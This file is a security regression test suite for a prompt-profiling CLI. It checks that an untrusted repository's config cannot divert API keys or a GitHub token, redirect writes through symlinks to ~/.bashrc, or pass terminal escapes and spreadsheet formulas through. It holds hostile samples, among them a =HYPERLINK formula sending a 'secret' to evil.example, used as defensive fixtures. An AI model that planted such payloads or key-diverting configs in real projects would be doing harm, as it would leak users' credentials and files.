// Issue 11, through the real CLI process (dist/cli.js, built by `npm run build`): each attack a
// checked-out repository or a model could mount, reproduced, and shown not to work any more.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { startFakeLlm, type FakeLlm } from '../fake-llm/server';

const BIN = path.resolve(__dirname, '../../dist/cli.js');
const KEY = 'sk-user-secret-openai-7731';
const ANT_KEY = 'sk-ant-user-secret-9911';
const GITHUB_TOKEN = 'ghp_user_github_token_5150';
const ESC = '\x1b';

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

function cli(args: string[], cwd: string, env: NodeJS.ProcessEnv): Promise<Run> {
  return new Promise((resolve) => {
    execFile(process.execPath, [BIN, ...args], { cwd, env, maxBuffer: 16 * 1024 * 1024 }, (err, stdout, stderr) => {
      resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

const mode = (p: string) => fs.statSync(p).mode & 0o777;
const month = () => new Date().toISOString().slice(0, 7);

describe('security: an untrusted checkout, through dist/cli.js (issue 11)', function () {
  this.timeout(60_000);
  let fake: FakeLlm;
  let project: string;
  let home: string;
  let env: NodeJS.ProcessEnv;
  const keysSeen = () =>
    fake.requests.flatMap((r) => [r.headers.authorization, r.headers['x-api-key']]).filter((h): h is string => typeof h === 'string' && /sk-|ghp_/.test(h));
  const writeConfig = (config: unknown) => fs.writeFileSync(path.join(project, 'prompt-profiler.json'), JSON.stringify(config));

  before(async function () {
    if (!fs.existsSync(BIN)) this.skip(); // npm test builds first
    fake = await startFakeLlm({ profiles: { '*': { output: 'Fine.' } } });
  });
  beforeEach(() => {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pp-sec-'));
    project = path.join(tmp, 'repo');
    home = path.join(tmp, 'home');
    fs.mkdirSync(project);
    fs.mkdirSync(path.join(home, '.config'), { recursive: true });
    fs.writeFileSync(path.join(project, 'p.txt'), 'Say something.\n');
    // The user's own environment: their keys, no base URL of theirs.
    env = { PATH: process.env.PATH, HOME: home, XDG_CONFIG_HOME: path.join(home, '.config'), OPENAI_API_KEY: KEY, ANTHROPIC_API_KEY: ANT_KEY, GITHUB_TOKEN };
  });
  afterEach(() => {
    fake?.reset();
    fs.rmSync(path.dirname(project), { recursive: true, force: true });
  });
  after(() => fake?.close());

  describe('1. keys do not follow the repository config', () => {
    it("run: the repository's base URL for openai receives no key; the message names the URL and --trust-config", async () => {
      writeConfig({ providers: { openai: { type: 'openai', baseURL: fake.openaiBaseURL } } });
      const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini'], project, env);
      assert.equal(r.code, 1);
      assert.equal(fake.requests.length, 0, 'the repository server was contacted');
      const expected = `Refused to send the API key in OPENAI_API_KEY for openai to ${fake.openaiBaseURL} (set in prompt-profiler.json): that URL comes from the repository, not from you, and could collect it. Run with --trust-config (or PROMPT_PROFILER_TRUST_CONFIG=1)`;
      assert.ok(r.stderr.includes(`openai:gpt-4o-mini ✗ config: ${expected}`), r.stderr);
      assert.ok(r.stdout.includes(expected), r.stdout);
    });

    it('run: a repository provider naming apiKeyEnv GITHUB_TOKEN does not get the GitHub token', async () => {
      writeConfig({ providers: { gw: { type: 'openai-compatible', baseURL: fake.openaiBaseURL, apiKeyEnv: 'GITHUB_TOKEN' } } });
      const r = await cli(['run', 'p.txt', '--model', 'gw:llama', '--json'], project, env);
      assert.equal(r.code, 1);
      assert.equal(fake.requests.length, 0);
      assert.match(JSON.parse(r.stdout).results[0].error.message, /^Refused to send the API key in GITHUB_TOKEN for gw to http:\/\/127\.0\.0\.1:\d+\/v1 \(set in prompt-profiler\.json\)/);
      // Even on the user's own URL (their config file), the repository may not pick the variable.
      fs.mkdirSync(path.join(home, '.config', 'prompt-profiler'));
      fs.writeFileSync(path.join(home, '.config', 'prompt-profiler', 'config.json'), JSON.stringify({ providers: { gw: { type: 'openai-compatible', baseURL: fake.openaiBaseURL } } }));
      const onMine = await cli(['run', 'p.txt', '--model', 'gw:llama', '--json'], project, env);
      assert.equal(
        JSON.parse(onMine.stdout).results[0].error.message,
        "Refused to send the API key in GITHUB_TOKEN for gw: the repository's config chose that secret, not you. Run with --trust-config (or PROMPT_PROFILER_TRUST_CONFIG=1) if you trust this repository's config, or set the provider in your own config or environment.",
      );
      assert.equal(fake.requests.length, 0);
      assert.deepEqual(keysSeen(), []);
      // Once the user's own config names the variable, it is theirs.
      fs.writeFileSync(path.join(home, '.config', 'prompt-profiler', 'config.json'), JSON.stringify({ providers: { gw: { type: 'openai-compatible', baseURL: fake.openaiBaseURL, apiKeyEnv: 'GITHUB_TOKEN' } } }));
      const allowed = await cli(['run', 'p.txt', '--model', 'gw:llama', '--json'], project, env);
      assert.equal(allowed.code, 0, allowed.stdout);
      assert.deepEqual(keysSeen(), [`Bearer ${GITHUB_TOKEN}`]);
    });

    it("plan (count_tokens) sends no x-api-key to the repository's anthropic URL", async () => {
      writeConfig({ providers: { anthropic: { type: 'anthropic', baseURL: fake.anthropicBaseURL } } });
      const r = await cli(['plan', 'p.txt', '--model', 'anthropic:claude-haiku-4-5'], project, env);
      assert.equal(fake.requests.length, 0, r.stdout + r.stderr);
      assert.match(r.stdout, /counted by/);
    });

    it("batch sends no key to the repository's URL and says why", async () => {
      writeConfig({ providers: { openai: { type: 'openai', baseURL: fake.openaiBaseURL } } });
      fs.writeFileSync(path.join(project, 'rows.jsonl'), '{"x":1}\n');
      fs.writeFileSync(path.join(project, 't.txt'), 'Row {{x}}\n');
      const r = await cli(['batch', 't.txt', 'rows.jsonl', '--model', 'openai:gpt-4o-mini'], project, env);
      assert.equal(r.code, 1);
      assert.equal(fake.requests.length, 0);
      assert.ok(r.stderr.includes(`to ${fake.openaiBaseURL} (set in prompt-profiler.json)`) && r.stderr.includes('--trust-config'), r.stderr);
    });

    it('--trust-config, or PROMPT_PROFILER_TRUST_CONFIG=1, lets the repository provider receive the key', async () => {
      writeConfig({ providers: { openai: { type: 'openai', baseURL: fake.openaiBaseURL } } });
      const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini', '--trust-config', '--no-cache'], project, env);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(keysSeen(), [`Bearer ${KEY}`]);
      fake.reset();
      const byEnv = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini', '--no-cache'], project, { ...env, PROMPT_PROFILER_TRUST_CONFIG: '1' });
      assert.equal(byEnv.code, 0, byEnv.stderr);
      assert.deepEqual(keysSeen(), [`Bearer ${KEY}`]);
    });

    it("the user's own base URL (environment, or their config file) receives the key as before", async () => {
      const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini', '--no-cache'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(keysSeen(), [`Bearer ${KEY}`]);
    });
  });

  describe('2. symlinks in the repository do not redirect writes', () => {
    it('a committed history file linked to ~/.bashrc stays unchanged, and so does a linked .prompt-profiler folder', async () => {
      const bashrc = path.join(home, '.bashrc');
      fs.writeFileSync(bashrc, '# my shell\n');
      const history = path.join(project, '.prompt-profiler', 'history');
      fs.mkdirSync(history, { recursive: true });
      fs.symlinkSync(bashrc, path.join(history, `calls-${month()}.jsonl`));
      const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(fs.readFileSync(bashrc, 'utf8'), '# my shell\n');
      assert.match(r.stderr, /warning: could not write the call history \(.*calls-\d{4}-\d{2}\.jsonl is a symbolic link: refused to write through it\.\)/);

      // The whole data folder as a link out of the project: nothing is written over there.
      const elsewhere = path.join(home, 'elsewhere');
      fs.mkdirSync(elsewhere);
      fs.rmSync(path.join(project, '.prompt-profiler'), { recursive: true });
      fs.symlinkSync(elsewhere, path.join(project, '.prompt-profiler'));
      const again = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini', '--no-cache'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
      assert.equal(again.code, 0, again.stderr);
      assert.deepEqual(fs.readdirSync(elsewhere), []);
      assert.match(again.stderr, /\.prompt-profiler is a symbolic link: refused to write through it/);
    });

    it('a cacheDir outside the project is refused, unless it is in the user\'s own config', async () => {
      writeConfig({ cacheDir: '../../elsewhere' });
      const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
      assert.equal(r.code, 2);
      assert.ok(r.stderr.startsWith(`prompt-profiler: prompt-profiler.json: cacheDir "../../elsewhere" is outside the project (${fs.realpathSync(project)}): refused to write there.`), r.stderr);
      assert.equal(fake.requests.length, 0);
      assert.ok(!fs.existsSync(path.resolve(project, '../../elsewhere')));

      fs.rmSync(path.join(project, 'prompt-profiler.json'));
      const mine = path.join(home, 'my-cache');
      fs.mkdirSync(path.join(home, '.config', 'prompt-profiler'));
      fs.writeFileSync(path.join(home, '.config', 'prompt-profiler', 'config.json'), JSON.stringify({ cacheDir: mine }));
      const ok = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
      assert.equal(ok.code, 0, ok.stderr);
      assert.ok(fs.readdirSync(mine).length > 0, 'the cache went to the folder the user chose');
    });
  });

  it('4. terminal escapes in an answer do not reach the terminal', async () => {
    fake.setProfile('gpt-4o-mini', { output: `${ESC}[31mred${ESC}[0m ${ESC}]8;;http://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\\r done` });
    const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!r.stdout.includes(ESC) && !r.stderr.includes(ESC), JSON.stringify(r.stdout));
    assert.ok(r.stdout.includes('\n── openai:gpt-4o-mini ──\nred click done\n'), JSON.stringify(r.stdout));
  });

  it("5. batch --out CSV cells that a spreadsheet would run start with '; 7. the state file is 0600", async () => {
    fake.setProfile('gpt-4o-mini', { output: '=HYPERLINK("http://evil.example/?d=secret","click")' });
    fs.writeFileSync(path.join(project, 'rows.jsonl'), '{"x":1}\n');
    fs.writeFileSync(path.join(project, 't.txt'), 'Row {{x}}\n');
    const ticker = setInterval(() => fake.advanceBatches(), 5);
    let r: Run;
    try {
      r = await cli(['batch', 't.txt', 'rows.jsonl', '--model', 'openai:gpt-4o-mini', '--out', 'out.csv', '--poll-interval', '0.01'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
    } finally {
      clearInterval(ticker);
    }
    assert.equal(r.code, 0, r.stderr);
    const lines = fs.readFileSync(path.join(project, 'out.csv'), 'utf8').split('\r\n');
    assert.equal(lines[1].split(',')[3], `"'=HYPERLINK(""http://evil.example/?d=secret""`);
    assert.equal(mode(path.join(project, 'out.csv')), 0o600);
    const batches = path.join(project, '.prompt-profiler', 'batches');
    assert.equal(mode(batches), 0o700);
    for (const f of fs.readdirSync(batches)) assert.equal(mode(path.join(batches, f)), 0o600, f);
  });

  it('6. a malformed SSE line that echoes the key is not printed by the SDK', async () => {
    // Not our fake: a bare server that answers with an SSE line made of the Authorization header.
    const server = http.createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.end(`data: {"echo": ${req.headers.authorization}}\n\n`);
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
      const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini'], project, { ...env, OPENAI_BASE_URL: base });
      assert.equal(r.code, 1);
      assert.ok(!r.stderr.includes(KEY) && !r.stdout.includes(KEY), r.stderr);
      assert.doesNotMatch(r.stderr, /Could not parse message into JSON/);
      assert.match(r.stderr, /openai:gpt-4o-mini ✗/);
    } finally {
      server.close();
    }
  });

  it('7. the data folder is private (0700 folders, 0600 files) and git-ignored', async () => {
    const r = await cli(['run', 'p.txt', '--model', 'openai:gpt-4o-mini', '--html', 'report.html'], project, { ...env, OPENAI_BASE_URL: fake.openaiBaseURL });
    assert.equal(r.code, 0, r.stderr);
    const data = path.join(project, '.prompt-profiler');
    assert.equal(fs.readFileSync(path.join(data, '.gitignore'), 'utf8').split('\n').filter((l) => l && !l.startsWith('#')).join('\n'), '*');
    const walk = (dir: string): string[] => fs.readdirSync(dir).flatMap((n) => [path.join(dir, n), ...(fs.statSync(path.join(dir, n)).isDirectory() ? walk(path.join(dir, n)) : [])]);
    const all = walk(data);
    assert.ok(all.some((p) => p.includes(`calls-${month()}.jsonl`)) && all.some((p) => p.endsWith('.json')), all.join('\n'));
    assert.equal(mode(data), 0o700);
    for (const p of all) assert.equal(mode(p), fs.statSync(p).isDirectory() ? 0o700 : 0o600, p);
    assert.equal(mode(path.join(project, 'report.html')), 0o600);
  });
});
